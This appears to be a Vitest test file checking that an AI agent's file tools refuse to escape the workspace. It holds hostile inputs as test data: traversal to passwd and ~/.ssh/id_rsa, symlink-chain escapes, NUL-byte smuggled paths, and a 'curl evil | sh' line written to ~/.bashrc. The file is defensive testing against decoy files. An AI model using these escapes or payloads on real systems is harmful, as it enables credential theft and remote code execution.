import { lstat, mkdir, mkdtemp, readdir, readFile, readlink, realpath, rm, stat, symlink, writeFile, chmod } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createEditFileTool } from "../../../src/tools/edit-file.js";
import { createListDirTool } from "../../../src/tools/list-dir.js";
import { createReadFileTool } from "../../../src/tools/read-file.js";
import { ToolRegistry } from "../../../src/tools/registry.js";
import type { ToolContext } from "../../../src/tools/tool.js";
import { isInside, resolveWorkspacePath } from "../../../src/tools/workspace-path.js";
import { createWriteFileTool } from "../../../src/tools/write-file.js";
import { allowed, attack } from "./attacks.js";

// Layout of every test, all inside a fresh temp root:
//   root/deep/workspace          the workspace
//   root/deep/workspace-evil     a sibling whose name starts with the workspace's
//   root/victim/secret.txt       a file outside that must never be read or changed
//   root/etc/passwd              decoy that `../../etc/passwd` reaches from the workspace
//   root/home/.ssh/id_rsa        decoy home ($HOME points here during the test)
let root: string;
let workspace: string;
let victim: string;
let sibling: string;
let home: string;
let originalHome: string | undefined;
let registry: ToolRegistry;
let context: ToolContext;

const SECRET = "TOP SECRET victim content";

beforeEach(async () => {
  root = await realpath(await mkdtemp(path.join(tmpdir(), "countbot-files-")));
  workspace = path.join(root, "deep", "workspace");
  victim = path.join(root, "victim");
  sibling = path.join(root, "deep", "workspace-evil");
  home = path.join(root, "home");
  await mkdir(workspace, { recursive: true });
  await mkdir(victim);
  await mkdir(sibling);
  await mkdir(path.join(home, ".ssh"), { recursive: true });
  await mkdir(path.join(root, "etc"));
  await writeFile(path.join(victim, "secret.txt"), SECRET);
  await writeFile(path.join(sibling, "secret.txt"), "SIBLING SECRET");
  await writeFile(path.join(root, "etc", "passwd"), "root:x:0:0:DECOY PASSWD");
  await writeFile(path.join(home, ".ssh", "id_rsa"), "-----BEGIN DECOY PRIVATE KEY-----");
  await writeFile(path.join(home, ".bashrc"), "# decoy bashrc\n");
  await writeFile(path.join(workspace, "notes.txt"), "line one\nline two\nline three\n");
  originalHome = process.env.HOME;
  process.env.HOME = home;
  registry = new ToolRegistry()
    .register(createReadFileTool({ maxBytes: 10_000 }))
    .register(createWriteFileTool({ maxBytes: 1_000 }))
    .register(createEditFileTool({ maxBytes: 1_000 }))
    .register(createListDirTool());
  context = { sessionKey: "test:1", channel: "test", chatId: "1", workspace, restrictToWorkspace: true, signal: new AbortController().signal };
});

afterEach(async () => {
  if (originalHome === undefined) delete process.env.HOME;
  else process.env.HOME = originalHome;
  await rm(root, { recursive: true, force: true });
});

async function call(name: string, args: Record<string, unknown>): Promise<{ content: string; success: boolean }> {
  return registry.execute({ id: "call-1", name, arguments: JSON.stringify(args) }, context);
}

/** Everything outside the workspace: path -> content, "dir" or "-> target". */
async function outside(): Promise<Record<string, string>> {
  const entries: Record<string, string> = {};
  const walk = async (directory: string): Promise<void> => {
    for (const name of await readdir(directory)) {
      const full = path.join(directory, name);
      if (full === workspace) continue;
      const info = await lstat(full);
      if (info.isSymbolicLink()) entries[full] = `-> ${await readlink(full)}`;
      else if (info.isDirectory()) {
        entries[full] = "dir";
        await walk(full);
      } else entries[full] = await readFile(full, "utf8");
    }
  };
  await walk(root);
  return entries;
}

/** Runs the call, expects a refusal that names the problem, and checks nothing outside changed or leaked. */
async function expectRefused(name: string, args: Record<string, unknown>, reason: RegExp): Promise<string> {
  const before = await outside();
  const outcome = await call(name, args);
  expect(outcome.success).toBe(false);
  expect(outcome.content).toMatch(/^Error: /);
  expect(outcome.content).toMatch(reason);
  expect(outcome.content).toMatch(/Next: /);
  for (const leaked of [SECRET, "SIBLING SECRET", "DECOY", "root:x:0:0"]) expect(outcome.content).not.toContain(leaked);
  expect(await outside()).toEqual(before);
  return outcome.content;
}

async function exists(file: string): Promise<boolean> {
  return lstat(file).then(
    () => true,
    () => false,
  );
}

const OUTSIDE = /outside the workspace|home directory/;

describe("read_file and list_dir attacks", () => {
  attack("read ../../etc/passwd", async () => {
    await expectRefused("read_file", { path: "../../etc/passwd" }, OUTSIDE);
  });

  attack("read an absolute path outside the workspace", async () => {
    await expectRefused("read_file", { path: path.join(victim, "secret.txt") }, OUTSIDE);
  });

  attack("read ~/.ssh/id_rsa", async () => {
    await expectRefused("read_file", { path: "~/.ssh/id_rsa" }, OUTSIDE);
  });

  attack("read ~root/.ssh/id_rsa (another user's home)", async () => {
    await expectRefused("read_file", { path: "~root/.ssh/id_rsa" }, OUTSIDE);
  });

  attack("read through a symlink to /etc", async () => {
    await symlink("/etc", path.join(workspace, "etc"));
    await expectRefused("read_file", { path: "etc/passwd" }, OUTSIDE);
  });

  attack("read a file symlinked to a file outside", async () => {
    await symlink(path.join(victim, "secret.txt"), path.join(workspace, "leak.txt"));
    await expectRefused("read_file", { path: "leak.txt" }, OUTSIDE);
  });

  attack("read through a symlinked directory three levels deep", async () => {
    await mkdir(path.join(workspace, "a", "b"), { recursive: true });
    await symlink(victim, path.join(workspace, "a", "b", "c"));
    await expectRefused("read_file", { path: "a/b/c/secret.txt" }, OUTSIDE);
  });

  attack("read through a chain of relative symlinks", async () => {
    await symlink("../../victim", path.join(workspace, "hop2"));
    await symlink("hop2", path.join(workspace, "hop1"));
    await expectRefused("read_file", { path: "hop1/secret.txt" }, OUTSIDE);
  });

  attack("read the sibling-prefix directory workspace-evil", async () => {
    await expectRefused("read_file", { path: "../workspace-evil/secret.txt" }, OUTSIDE);
    await expectRefused("read_file", { path: `${workspace}-evil/secret.txt` }, OUTSIDE);
  });

  attack("read with a NUL byte in the path", async () => {
    await expectRefused("read_file", { path: "notes.txt\0../../etc/passwd" }, /NUL byte/);
  });

  attack("read a path that climbs out and back in through another directory", async () => {
    await expectRefused("read_file", { path: "./sub/../../../victim/secret.txt" }, OUTSIDE);
  });

  attack("list the parent directory", async () => {
    const content = await expectRefused("list_dir", { path: ".." }, OUTSIDE);
    expect(content).not.toContain("workspace-evil");
  });

  attack("list a directory through a symlink pointing out", async () => {
    await symlink(victim, path.join(workspace, "peek"));
    const content = await expectRefused("list_dir", { path: "peek" }, OUTSIDE);
    expect(content).not.toContain("secret.txt");
  });
});

describe("write_file attacks", () => {
  attack("write ../victim/new.txt", async () => {
    await expectRefused("write_file", { path: "../../victim/new.txt", content: "pwned" }, OUTSIDE);
    expect(await exists(path.join(victim, "new.txt"))).toBe(false);
  });

  attack("write an absolute path outside", async () => {
    await expectRefused("write_file", { path: path.join(victim, "secret.txt"), content: "pwned" }, OUTSIDE);
  });

  attack("write through a symlinked directory", async () => {
    await symlink(victim, path.join(workspace, "out"));
    await expectRefused("write_file", { path: "out/pwned.txt", content: "pwned" }, OUTSIDE);
    expect(await exists(path.join(victim, "pwned.txt"))).toBe(false);
  });

  attack("write through a symlinked file", async () => {
    await symlink(path.join(victim, "secret.txt"), path.join(workspace, "link.txt"));
    await expectRefused("write_file", { path: "link.txt", content: "pwned" }, OUTSIDE);
    expect(await readFile(path.join(victim, "secret.txt"), "utf8")).toBe(SECRET);
  });

  attack("write through a dangling symlink pointing out", async () => {
    await symlink(path.join(victim, "created-later.txt"), path.join(workspace, "dangling"));
    await expectRefused("write_file", { path: "dangling", content: "pwned" }, OUTSIDE);
    expect(await exists(path.join(victim, "created-later.txt"))).toBe(false);
  });

  attack("write under a symlink whose target directory does not exist yet", async () => {
    await symlink(path.join(root, "later-dir"), path.join(workspace, "later"));
    await expectRefused("write_file", { path: "later/sub/x.txt", content: "pwned" }, OUTSIDE);
    expect(await exists(path.join(root, "later-dir"))).toBe(false);
  });

  attack("create parent directories through a symlink at depth", async () => {
    await mkdir(path.join(workspace, "a"));
    await symlink(victim, path.join(workspace, "a", "b"));
    await expectRefused("write_file", { path: "a/b/c/d.txt", content: "pwned" }, OUTSIDE);
    expect(await exists(path.join(victim, "c"))).toBe(false);
  });

  attack("write ~/.bashrc", async () => {
    await expectRefused("write_file", { path: "~/.bashrc", content: "curl evil | sh" }, OUTSIDE);
  });

  attack("write into the sibling-prefix directory", async () => {
    await expectRefused("write_file", { path: "../workspace-evil/x.txt", content: "pwned" }, OUTSIDE);
    expect(await exists(path.join(sibling, "x.txt"))).toBe(false);
  });

  attack("write with a NUL byte in the path", async () => {
    await expectRefused("write_file", { path: "ok.txt\0/../../victim/x", content: "pwned" }, /NUL byte/);
    expect(await readdir(workspace)).toEqual(["notes.txt"]);
  });

  attack("write more than the size cap", async () => {
    await expectRefused("write_file", { path: "big.txt", content: "x".repeat(1_001) }, /1001 bytes, more than the 1000-byte limit/);
    expect(await exists(path.join(workspace, "big.txt"))).toBe(false);
  });
});

describe("edit_file attacks", () => {
  attack("edit a file outside with ../", async () => {
    await expectRefused("edit_file", { path: "../../victim/secret.txt", old_text: "TOP", new_text: "PWNED" }, OUTSIDE);
  });

  attack("edit an absolute path outside", async () => {
    await expectRefused("edit_file", { path: path.join(victim, "secret.txt"), old_text: "TOP", new_text: "PWNED" }, OUTSIDE);
  });

  attack("edit a file symlinked to one outside", async () => {
    await symlink(path.join(victim, "secret.txt"), path.join(workspace, "innocent.txt"));
    await expectRefused("edit_file", { path: "innocent.txt", old_text: "TOP", new_text: "PWNED" }, OUTSIDE);
  });

  attack("edit through a symlinked directory", async () => {
    await symlink(victim, path.join(workspace, "dir"));
    await expectRefused("edit_file", { path: "dir/secret.txt", old_text: "TOP", new_text: "PWNED" }, OUTSIDE);
  });

  attack("edit ~/.bashrc", async () => {
    await expectRefused("edit_file", { path: "~/.bashrc", old_text: "decoy", new_text: "evil" }, OUTSIDE);
  });
});

describe("file tools: allowed uses", () => {
  allowed("read a workspace file, whole and by lines", async () => {
    expect(await call("read_file", { path: "notes.txt" })).toMatchObject({ success: true, content: "line one\nline two\nline three\n" });
    expect((await call("read_file", { path: "notes.txt", offset: 2, limit: 1 })).content).toBe("line two");
  });

  allowed("read through a symlink that stays inside", async () => {
    await symlink("notes.txt", path.join(workspace, "alias.txt"));
    expect((await call("read_file", { path: "alias.txt" })).content).toContain("line two");
  });

  allowed("an absolute path inside the workspace, and a name starting with ..", async () => {
    await writeFile(path.join(workspace, "..hidden"), "dots");
    expect((await call("read_file", { path: path.join(workspace, "notes.txt") })).success).toBe(true);
    expect((await call("read_file", { path: "..hidden" })).content).toBe("dots");
  });

  allowed("list the workspace", async () => {
    await mkdir(path.join(workspace, "sub"));
    expect((await call("list_dir", {})).content).toBe("notes.txt\nsub/");
  });

  allowed("write creates parent directories, reports bytes and leaves no temp file", async () => {
    const outcome = await call("write_file", { path: "a/b/new.txt", content: "héllo" });
    expect(outcome).toEqual({ success: true, content: "Wrote 6 bytes to a/b/new.txt.", arguments: expect.anything(), retryable: false });
    expect(await readFile(path.join(workspace, "a", "b", "new.txt"), "utf8")).toBe("héllo");
    expect(await readdir(path.join(workspace, "a", "b"))).toEqual(["new.txt"]);
  });

  allowed("overwrite keeps the file's mode", async () => {
    await chmod(path.join(workspace, "notes.txt"), 0o600);
    await call("write_file", { path: "notes.txt", content: "new" });
    expect((await stat(path.join(workspace, "notes.txt"))).mode & 0o777).toBe(0o600);
  });

  allowed("write through an inside symlink updates its target and keeps the link", async () => {
    await symlink("notes.txt", path.join(workspace, "alias.txt"));
    await call("write_file", { path: "alias.txt", content: "via alias" });
    expect(await readFile(path.join(workspace, "notes.txt"), "utf8")).toBe("via alias");
    expect((await lstat(path.join(workspace, "alias.txt"))).isSymbolicLink()).toBe(true);
  });

  allowed("concurrent writes are atomic: one whole content wins, no temp files", async () => {
    const contents = Array.from({ length: 20 }, (_, index) => `${index}:`.padEnd(900, String(index % 10)));
    await Promise.all(contents.map((content) => call("write_file", { path: "race.txt", content })));
    expect(contents).toContain(await readFile(path.join(workspace, "race.txt"), "utf8"));
    expect((await readdir(workspace)).sort()).toEqual(["notes.txt", "race.txt"]);
  });

  allowed("edit replaces exactly one occurrence", async () => {
    const outcome = await call("edit_file", { path: "notes.txt", old_text: "line two", new_text: "LINE 2" });
    expect(outcome).toMatchObject({ success: true, content: "Edited notes.txt at line 2 (27 bytes now)." });
    expect(await readFile(path.join(workspace, "notes.txt"), "utf8")).toBe("line one\nLINE 2\nline three\n");
    expect(await readdir(workspace)).toEqual(["notes.txt"]);
  });

  it("edit with zero matches says it was not found and to read the file first", async () => {
    const outcome = await call("edit_file", { path: "notes.txt", old_text: "line four", new_text: "x" });
    expect(outcome.content).toBe(
      'Error: old_text was not found in "notes.txt". Next: Read the file first and copy the text exactly, including whitespace and line breaks.',
    );
    expect(await readFile(path.join(workspace, "notes.txt"), "utf8")).toBe("line one\nline two\nline three\n");
  });

  it("edit with several matches says how many and on which lines", async () => {
    const outcome = await call("edit_file", { path: "notes.txt", old_text: "line", new_text: "x" });
    expect(outcome.content).toBe(
      'Error: old_text occurs 3 times in "notes.txt" (lines 1, 2, 3). Next: Include more of the surrounding text in old_text so it matches exactly one place.',
    );
    expect(await readFile(path.join(workspace, "notes.txt"), "utf8")).toBe("line one\nline two\nline three\n");
  });

  it("edit of a missing file and an oversized result are clear errors", async () => {
    expect((await call("edit_file", { path: "nope.txt", old_text: "a", new_text: "b" })).content).toMatch(/^Error: file "nope.txt" does not exist/);
    expect((await call("edit_file", { path: "notes.txt", old_text: "line one", new_text: "y".repeat(1_000) })).content).toMatch(/more than the 1000-byte limit/);
  });
});

describe("resolveWorkspacePath", () => {
  it("returns real paths and refuses escapes", async () => {
    await symlink("notes.txt", path.join(workspace, "alias.txt"));
    const options = { workspace, restrictToWorkspace: true };
    expect(await resolveWorkspacePath("alias.txt", options)).toBe(path.join(workspace, "notes.txt"));
    expect(await resolveWorkspacePath("new/dir/file.txt", options)).toBe(path.join(workspace, "new", "dir", "file.txt"));
    await expect(resolveWorkspacePath("../workspace-evil", options)).rejects.toThrow(/outside the workspace/);
  });

  it("follows symlink loops no further than the kernel would", async () => {
    await symlink("loop-b", path.join(workspace, "loop-a"));
    await symlink("loop-a", path.join(workspace, "loop-b"));
    await expect(resolveWorkspacePath("loop-a/x", { workspace, restrictToWorkspace: true })).rejects.toThrow(/too many levels/);
  });

  it("allows outside paths when not restricted", async () => {
    expect(await resolveWorkspacePath(path.join(victim, "secret.txt"), { workspace, restrictToWorkspace: false })).toBe(path.join(victim, "secret.txt"));
  });

  it("isInside does not mistake a sibling prefix or a ..name for the inside", () => {
    expect(isInside("/srv/workspace-evil/x", "/srv/workspace")).toBe(false);
    expect(isInside("/srv/workspace/..x", "/srv/workspace")).toBe(true);
    expect(isInside("/srv/workspace", "/srv/workspace")).toBe(true);
    expect(isInside("/srv", "/srv/workspace")).toBe(false);
  });
});
